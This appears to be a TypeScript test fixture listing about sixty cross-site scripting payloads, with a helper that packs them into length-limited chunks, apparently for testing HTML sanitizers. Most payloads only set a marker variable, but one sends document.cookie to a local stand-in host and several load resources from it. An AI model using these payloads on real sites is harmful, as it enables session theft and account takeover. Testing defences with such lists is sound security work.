/** Ways to get a script to run that are known from the field; each marks `window.ran`, opens a dialog or calls out. */
export const scriptPayloads: readonly string[] = [
  '<script>window.ran=1</script>',
  '"><script>window.ran=1</script>',
  "'><script>window.ran=1</script>",
  '</title><script>window.ran=1</script>',
  '</textarea><script>window.ran=1</script>',
  '</script><script>window.ran=1</script>',
  '</style><script>window.ran=1</script>',
  '</noscript><script>window.ran=1</script>',
  '<ScRiPt>window.ran=1</sCrIpT>',
  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  '<script src=//127.0.0.1:9/x.js></script>',
  '<script src=data:,window.ran=1></script>',
  '<script type=module>import("data:text/javascript,window.ran=1")</script>',
  '<script>fetch("http://127.0.0.1:9/"+document.cookie)</script>',
  '<img src=x onerror=window.ran=1>',
  '<img src=x onerror="alert(document.domain)">',
  '"><img src=x onerror=window.ran=1>',
  '<img/src=x/onerror=window.ran=1>',
  '<img src="http://127.0.0.1:9/pixel.gif">',
  '<img srcset="http://127.0.0.1:9/a 1x">',
  '<image href=x onerror=window.ran=1>',
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x">',
  '<svg><style><img src=x onerror=window.ran=1></style></svg>',
  '<math><mtext></p><img src=x onerror=window.ran=1></math>',
  '<math><a xlink:href="javascript:window.ran=1">x</a></math>',
  '<body onload=window.ran=1>',
  '<iframe src="javascript:parent.window.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.ran=1</script>">',
  '<embed src="javascript:window.ran=1">',
  '<a href="javascript:window.ran=1">x</a>',
  '<a href="java&Tab;script:window.ran=1">x</a>',
  '<a href="&#106;avascript:window.ran=1">x</a>',
  '<form action="javascript:window.ran=1"><button autofocus>x</button></form>',
  '<button formaction="javascript:window.ran=1">x</button>',
  '<input autofocus onfocus=window.ran=1>',
  '" autofocus onfocus=window.ran=1 x="',
  "' autofocus onfocus=window.ran=1 x='",
  '" onmouseover=window.ran=1 style="position:fixed;inset:0',
  '<select autofocus onfocus=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<video><source onerror=window.ran=1></video>',
  '<audio src=x onerror=window.ran=1>',
  '<marquee onstart=window.ran=1>',
  '<style>@import "http://127.0.0.1:9/a.css";</style>',
  '<div style="background:url(http://127.0.0.1:9/b)">',
  '<link rel=stylesheet href="http://127.0.0.1:9/c.css">',
  '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">',
  '<base href="http://127.0.0.1:9/">',
  '<template><script>window.ran=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<![CDATA[><img src=x onerror=window.ran=1>]]>',
  '<x id=x tabindex=1 onfocus=window.ran=1>#x',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '{{constructor.constructor("window.ran=1")()}}',
  "';window.ran=1;//",
  'javascript:window.ran=1',
];

/** All of them, put together to texts of at most so many characters. */
export function chunksOf(maxLength: number): string[] {
  const chunks: string[] = [];
  for (const payload of scriptPayloads) {
    const longer = `${chunks.at(-1) ?? ''} ${payload}`.trim();
    if (chunks.length === 0 || longer.length > maxLength) chunks.push(payload);
    else chunks.splice(-1, 1, longer);
  }

  return chunks;
}
